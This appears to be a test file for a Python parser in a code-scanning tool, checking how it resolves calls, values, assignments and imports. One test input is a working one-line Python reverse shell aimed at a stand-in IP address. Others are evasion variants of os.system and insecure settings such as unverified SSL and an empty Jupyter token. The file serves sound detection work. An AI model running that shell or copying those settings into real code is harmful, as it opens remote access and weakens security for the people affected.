import { describe, expect, test } from 'vitest';
import { parsePython } from '../../../src/lang/python/index.ts';
import { show, showAssignments, showCalls } from './show.ts';

function calls(text: string): string[] {
  return showCalls(parsePython(text));
}

describe('calls', () => {
  test.each<[name: string, text: string, expected: string[]]>([
    ['plain', 'print("a")', ['print("a")']],
    [
      'reverse shell on one line',
      'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.5",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
      [
        'socket.socket(socket.AF_INET, socket.SOCK_STREAM)',
        'socket.socket().connect(("203.0.113.5", 4444))',
        'os.dup2(socket.socket().fileno(), 0)',
        'socket.socket().fileno()',
        'subprocess.call(["/bin/sh", "-i"])',
      ],
    ],
    ['alias of a module', 'import subprocess as sp; sp.run("ls", shell=True)', ['subprocess.run("ls", shell=true)']],
    ['alias of a name', 'from os import system as s; s("id")', ['os.system("id")']],
    ['alias by assignment', 'import os\nrun = os.system\nrun("id")', ['os.system("id")']],
    [
      'bound method',
      'import socket\nb = socket.socket().bind\nb(("", 1))',
      ['socket.socket()', 'socket.socket().bind(("", 1))'],
    ],
    ['submodule', 'import os.path\nos.path.join("a")\nos.system("b")', ['os.path.join("a")', 'os.system("b")']],
    ['submodule alias', 'import urllib.request as u\nu.urlopen("h")', ['urllib.request.urlopen("h")']],
    ['relative import', 'from ..pkg import f\nf()', ['..pkg.f()']],
    ['import list in brackets', 'from os import (path as p, # c\n  system,)\nsystem("x")', ['os.system("x")']],
    ['one star import', 'from os import *\nsystem("x"); print(1)', ['os.system("x")', 'print(1)']],
    ['two star imports', 'from os import *\nfrom sys import *\nsystem("x")', ['system("x")']],
    ['__import__', '__import__("os").system("x")', ['__import__("os")', 'os.system("x")']],
    [
      'import_module and getattr',
      'import importlib as i\ngetattr(i.import_module("os"), "system")("x")',
      ['getattr(os, "system")', 'importlib.import_module("os")', 'os.system("x")'],
    ],
    ['builtins', 'import builtins\nbuiltins.exec("1")', ['exec("1")']],
    ['compatibility of letters', 'import os\nｏｓ.ｓｙｓｔｅｍ("x")', ['os.system("x")']],
    [
      'method of a call',
      'import gradio as gr\ngr.Interface(fn=f).launch(share=True)',
      ['gradio.Interface(fn=f)', 'gradio.Interface().launch(share=true)'],
    ],
    [
      'method of a variable',
      'import gradio as gr\ndemo = gr.Blocks()\ndemo.queue().launch()',
      ['gradio.Blocks()', 'gradio.Blocks().queue()', 'gradio.Blocks().queue().launch()'],
    ],
    [
      'with as',
      'import socket\nwith socket.socket() as s:\n  s.bind(("",1))',
      ['socket.socket()', 'socket.socket().bind(("", 1))'],
    ],
    [
      'with in brackets',
      'with (open("a") as f, open("b") as g,):\n  g.read()',
      ['open("a")', 'open("b")', 'open().read()'],
    ],
    [
      'attribute of self across methods',
      'class A:\n  def __init__(self):\n    self.s = Sock()\n  def go(self):\n    self.s.bind(1)\n',
      ['~@Sock()', '~@Sock().bind(1)'],
    ],
    ['unknown object', 'x[0].launch(1)', ['….launch(1)']],
    ['call of a call', 'f()(1)', ['f()', 'f()(1)']],
    ['nested in arguments', 'a(b(c()), k=d())', ['a(b(), k=d())', 'b(c())', 'c()', 'd()']],
    ['open arguments', 'f(1, *a)\nf(**k)', ['f(1, *a, …)', 'f(…)']],
    ['keyword value in doubt', 'f(a if b else c, d == e)', ['f(?, ?)']],
    ['not a keyword argument', 'f(a == 1, (b := 2))', ['f(?, 2)']],
    ['comment and string are no code', '# os.system("x")\nx = "os.system(1)" # f()\n', []],
    ['shebang', '#!/usr/bin/env python3\nf()', ['f()']],
    [
      'decorators',
      '@app.route("/")\n@cache\ndef f(a: g() = h()) -> i(): j()',
      ['app.route("/")', 'g()', 'h()', 'i()', '~@j()'],
    ],
    ['class arguments', 'class A(B, metaclass=M()): x = f()', ['M()', '~f()']],
    ['conditions', 'if a():\n  b()\nelif c(): d()\nelse:\n  e()\nf()', ['a()', '~b()', '~c()', '~d()', '~e()', 'f()']],
    ['short circuit', 'a() and b() or c()\nd() if e() else f()', ['a()', '~b()', '~c()', '~d()', '~e()', '~f()']],
    ['with is no condition', 'with a():\n  with b(): c()\nd()', ['a()', 'b()', 'c()', 'd()']],
    ['try', 'try: a()\nexcept (E, F) as e: b(e)\nfinally:\n  c()', ['~a()', '~b(?e)', '~c()']],
    ['loops', 'for i, (j, k) in a(): b(i, k)\nwhile c(): d()', ['a()', '~b(?i, ?k)', 'c()', '~d()']],
    [
      'main guard',
      'if __name__ == "__main__":\n  a()\n  if x: b()\nif \'__main__\' == __name__: c()',
      ['~#a()', '~b()', '~#c()'],
    ],
    ['lambda', 'f(lambda x, y=g(): h(x), 1)', ['f(?, 1)', 'g()', '~@h(?x)']],
    ['comprehension', 'x = "a"\n[f(x) for x in g() if h(x)]\nk(x)', ['~f(?x)', '~g()', '~h(?x)', 'k("a")']],
    ['generator argument', 'any(f(y) for y in z)', ['any(?)', '~f(?y)']],
    ['dict comprehension', '{f(k): g(v) for k, v in z.items()}', ['~f(?k)', '~g(?v)', '~z.items()']],
    [
      'async',
      'async def f():\n  async with a() as b:\n    await b.c()\n  async for x in d(): e(x)',
      ['~@a()', '~@a().c()', '~@d()', '~@e(?x)'],
    ],
    ['await', 'async def m(): r = await f(1)', ['~@f(1)']],
    ['walrus', 'if (s := sock()): s.bind(1)', ['sock()', '~sock().bind(1)']],
    ['line continuation', 'f(1, \\\n  2)\nx = g() + \\\r\n h()', ['f(1, 2)', 'g()', 'h()']],
    ['brackets join lines', 'f(\n  1, # one\n\n  2,\n)\ng()', ['f(1, 2)', 'g()']],
    ['tabs', 'if x:\n\tf()\n        g()\nh()', ['~f()', '~g()', 'h()']],
    ['CRLF', 'if x:\r\n  f("a")\r\ng()\r\n', ['~f("a")', 'g()']],
    ['lone CR', 'f()\rg()', ['f()', 'g()']],
    ['byte order mark', '\ufefff()', ['f()']],
    ['indented as a whole', '    import os\n    os.system("x")\n', ['os.system("x")']],
    [
      'match',
      'match f(x):\n  case {"a": b}: g(b)\n  case C(y=1) if h(): i()\nmatch = 1\nmatch(2)',
      ['f(x)', '~g(?b)', '~h()', '~i()', '…(2)'],
    ],
    ['f-string field', 'f"{os.system(\'id\')!r:>{w()}}"', ['os.system("id")', 'w()']],
    ['f-string with the same quotes', 'f"{f(x["a"])} {g("b")}"', ['f(?)', 'g("b")']],
    ['Python 2 print', 'print "a", f()\nprint >>e, g()', ['f()', 'g()']],
    ['star expressions', 'a, *b = f(), *g()\nprint(*[h()])', ['f()', 'g()', 'print(h())', 'h()']],
    ['slices', 'f(a[1:g()], b[::2], c[d()])', ['f(?, ?, ?)', 'g()', 'd()']],
    [
      'return, raise, assert, del, yield',
      'def f():\n  assert a(), b()\n  yield from c()\n  del d[e()]\n  raise g() from h()\n  return i()',
      ['~@a()', '~@b()', '~@c()', '~@e()', '~@g()', '~@h()', '~@i()'],
    ],
    ['type alias', 'type X = f()\ntype(x)', ['f()', 'type(x)']],
    ['own function', 'def system(x): pass\nsystem("a")', ['system("a")']],
  ])('%s', (_name, text, expected) => {
    expect(calls(text)).toEqual(expected);
  });

  test('receiver and root', () => {
    const { calls: read } = parsePython('import gradio as gr\ngr.Blocks().queue().launch()\ndef f(): 0\nf()');
    expect(read.map(({ root, method, receiver }) => ({ root, method, receiver }))).toEqual([
      { root: 'import', method: 'Blocks', receiver: undefined },
      { root: 'value', method: 'queue', receiver: { call: 0, callee: 'gradio.Blocks', origin: 'gradio.Blocks' } },
      {
        root: 'value',
        method: 'launch',
        receiver: { call: 1, callee: 'gradio.Blocks().queue', origin: 'gradio.Blocks' },
      },
      { root: 'local', method: 'f', receiver: undefined },
    ]);
  });

  test('spans', () => {
    const text = 'é = 1; a.b("😀", k=2) ; c()';
    const [first] = parsePython(text).calls;
    const cut = (span: { start: number; end: number } | undefined) => span && text.slice(span.start, span.end);
    expect(cut(first?.span)).toBe('a.b("😀", k=2)');
    expect(cut(first?.calleeSpan)).toBe('a.b');
    expect(cut(first?.argsSpan)).toBe('("😀", k=2)');
    expect(cut(first?.args[0]?.span)).toBe('"😀"');
    expect(cut(first?.keywords[0]?.span)).toBe('k=2');
  });
});

describe('values', () => {
  test.each<[text: string, expected: string]>([
    ['X', 'X'],
    ['HOST="0.0.0.0"\nHOST', '"0.0.0.0"'],
    ['HOST="0.0.0.0"\nHOST="127.0.0.1"\nHOST', '"127.0.0.1"'],
    ['H="a"\nif x: H="b"\nH', '<"a" | "b">'],
    ['if x: H="b"\nH', '"b"'],
    ['if x: H="b"\nelse: H="c"\nH', '<"b" | "c">'],
    ['H="a"\nfor i in y:\n  g(H)\n  H="b"\nH', '<"a" | "b">'],
    ['H="a"\nH += "b"\nH', '"ab"'],
    ['H, P = "a", 1\nP', '1'],
    ['H = G = "a"\nG', '"a"'],
    ['H: str = "a"\nH', '"a"'],
    ['H = "a"\ndel H\nH', '?H'],
    ['(H) = "a"\nH', '"a"'],
    ['"a" + "b"', '"ab"'],
    ['"a" + x + "b"', 'f"a{x}b"'],
    ['"a" "b" f"{1}"', '"ab1"'],
    ['"%s:%d" % ("h", 80)', '"h:80"'],
    ['"%s%% %05d" % (x, 3)', 'f"{x}% {}"'],
    ['"%(a)s" % {"a": "b"}', '"b"'],
    ['"{}:{1} {k} {{}}".format("h", 80, k="v")', '"h:80 v {}"'],
    ['"{:>3} {x.y}".format(1)', 'f"{} {}"'],
    ['" ".join(["a", "b", c])', 'f"a b {c}"'],
    ['"a".encode("utf-8")', 'b"a"'],
    ['b"a".decode()', '"a"'],
    ['["a"] + ["b"]', '["a", "b"]'],
    ['["a"] + x', '["a", *x]'],
    ['c = ["a"]\nc.append("b")\nc', '["a", "b"]'],
    ['c = ["a"]\nc.sort()\nc', '?c'],
    ['c = {"h": "a"}\nc["h"] = "b"\nc', '{"h": "a", "h": "b"}'],
    ['c = {"h": "a"}\nc["h"]', '"a"'],
    ['c = ("a", "b")\nc[-1]', '"b"'],
    ['[1, *x]', '[1, *x]'],
    ['{"a": 1, **x}', '{"a": 1, …}'],
    ['{}', '{}'],
    ['{1, 2}', '{1, 2}'],
    ['()', '()'],
    ['(1,)', '(1)'],
    ['(1)', '1'],
    ['-1', '-1'],
    ['0o777', '511'],
    ['0777', '511'],
    ['0xFF_ff', '65535'],
    ['0b1_0', '2'],
    ['1_000.5e1', '10005'],
    ['.5', '0.5'],
    ['1j', '?'],
    ['None', 'None'],
    ['not True', '?'],
    ['...', '?'],
    ['f"{x}"', 'f"{x}"'],
    ['f"{{}} {1!r} {y:>{w}} {z=}"', 'f"{} {1} {y} {z}"'],
    ['rf"\\{x}\\n"', 'f"\\\\{x}\\\\n"'],
    ['f"""a{\n x # c\n}b"""', 'f"a{x}b"'],
    ['f"{x != y}{ {1: 2}[1] }{(lambda q: 1)(2)}"', 'f"{?}2{…()}"'],
    ['f"{a:%H:%M}"', 'f"{a}"'],
    ['import os\nos.environ["A"]', '$A'],
    ['import os\nos.getenv("A", "b")', '$A:-"b"'],
    ['from os import environ as e\ne.get("A")', '$A'],
    ['import os\nT = os.environ["A"]\nT', '$A'],
    ['import ssl\nssl.CERT_NONE', 'ssl.CERT_NONE'],
    [
      'import ssl as s\nc = s.create_default_context()\nc.check_hostname',
      'ssl.create_default_context().check_hostname',
    ],
    ['try:\n  import a as m\nexcept ImportError:\n  import b as m\nm.x', 'a.x'],
    ['o.x = 1\no.x', '1'],
    ['o.x = 1\no = y\no.x', 'y.x'],
  ])('%s', (text, expected) => {
    const lines = text.split('\n');
    const last = text.startsWith('f"""') ? 0 : lines.length - 1;
    const wrapped = [...lines.slice(0, last), `show(${lines.slice(last).join('\n')})`].join('\n');
    const call = parsePython(wrapped).calls.find((one) => one.callee === 'show');
    expect(call?.args.map(show)).toEqual([expected]);
  });

  test('names inside functions take module values', () => {
    const text = 'def f(q):\n  g(A, B, C, q)\nA = "a"\nB = 1\nB = 2\nC = "c"\nq = 1\n';
    expect(calls(text)).toEqual(['~@g("a", <1 | 2>, "c", ?q)']);
  });

  test('a global that a function changes is in doubt', () => {
    expect(calls('A = 1\ndef f():\n  global A\n  A = 2\ng(A)')).toEqual(['g(<1 | 2>)']);
    expect(calls('def f():\n  A = 2\nA = 1\ng(A)')).toEqual(['g(1)']);
  });

  test('a value that a name brings tells where it is written', () => {
    const text = 'H = "0.0.0.0"\nf(H)';
    const value = parsePython(text).calls[0]?.args[0];
    expect(value).toMatchObject({ span: { start: 16, end: 17 }, via: { start: 4, end: 13 } });
    expect(value).toMatchObject({ parts: [{ kind: 'verbatim', text: '0.0.0.0', span: { start: 5, end: 12 } }] });
  });
});

describe('assignments', () => {
  test.each<[text: string, expected: string[]]>([
    ["c.ServerApp.token = ''", ['c.ServerApp.token = ""']],
    ["c = get_config()\nc.ServerApp.token = ''", ['c = get_config()', 'get_config().ServerApp.token = ""']],
    ['import os as o\no.environ["X"] = "1"', ['os.environ["X"] = "1"']],
    [
      'import ssl\nssl._create_default_https_context = ssl._create_unverified_context',
      ['ssl._create_default_https_context = ssl._create_unverified_context'],
    ],
    [
      'from flask import Flask\napp = Flask(__name__)\napp.config["K"] = "v"',
      ['app = flask.Flask()', 'flask.Flask().config["K"] = "v"'],
    ],
    ['a = b = 1', ['a = 1', 'b = 1']],
    ['a, (b, *c) = 1, (2, 3)', ['a = 1', 'b = ?', 'c = ?']],
    ['x: int = 3\ny: int', ['x = 3']],
    ['x += "a"', ['x += "a"']],
    ['f(y := 2)', ['y := 2']],
    ['f(a=1)', []],
    ['x == 1', []],
  ])('%s', (text, expected) => {
    expect(showAssignments(parsePython(text))).toEqual(expected);
  });

  test('target keeps the variable', () => {
    const [, second] = parsePython('c = get_config()\nc.X.y = 1').assignments;
    expect(second).toMatchObject({ target: 'c.X.y', resolved: 'get_config().X.y', conditional: false });
  });
});

test('imports', () => {
  const text = 'import a.b, c as d\nfrom .e import (f as g, h)\nif x: from i import *\n';
  expect(
    parsePython(text).imports.map(({ module, name, alias, conditional, span }) => [
      module,
      name,
      alias,
      conditional,
      text.slice(span.start, span.end),
    ]),
  ).toEqual([
    ['a.b', undefined, 'a', false, 'a.b'],
    ['c', undefined, 'd', false, 'c as d'],
    ['.e', 'f', 'g', false, 'f as g'],
    ['.e', 'h', 'h', false, 'h'],
    ['i', '*', '', true, '*'],
  ]);
});

test('strings', () => {
  const text = 'a = "x" \'y\'\n"""doc"""\nf(f"k{g("z")}")  # "no"\n';
  expect(parsePython(text).strings.map((one) => [show(one), text.slice(one.span.start, one.span.end)])).toEqual([
    ['"xy"', '"x" \'y\''],
    ['"doc"', '"""doc"""'],
    ['f"k{g()}"', 'f"k{g("z")}"'],
    ['"z"', '"z"'],
  ]);
});
